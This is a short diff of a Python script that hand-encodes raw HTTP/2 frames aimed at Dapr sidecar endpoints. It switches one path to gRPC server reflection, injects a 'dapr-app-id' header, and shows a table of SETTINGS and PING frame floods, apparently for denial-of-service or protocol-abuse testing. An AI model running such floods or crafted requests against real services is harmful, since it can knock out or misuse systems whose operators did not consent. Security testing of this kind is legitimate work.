@@ -150,14 +150,14 @@ def swallow(sock):
 
 
 HEAD = b"\x82\x86\x44\x02/x\x41\x01a"
-PATHS = {"http": b"/v1.0/state/store", "grpc": b"/dapr.proto.runtime.v1.Dapr/SaveState",
+PATHS = {"http": b"/v1.0/state/store", "grpc": b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
          "peer": b"/dapr.proto.internals.v1.ServiceInvocation/CallLocalStream"}
 
 
 def open_head(name):
     """A request whose body is waited for."""
     path, kind = PATHS[name], b"application/grpc"
-    return b"\x83\x86\x44" + bytes([len(path)]) + path + b"\x41\x01a\x5f" + bytes([len(kind)]) + kind
+    return b"\x83\x86\x44" + bytes([len(path)]) + path + b"\x41\x01a\x5f" + bytes([len(kind)]) + kind + b"\x40\x0bdapr-app-id\x01x"
 FLOODS = {
     "settings": lambda n, name: frame(4, 0, 0, struct.pack(">HI", 4, 65535)),
     "ping": lambda n, name: frame(6, 0, 0, b"12345678"),
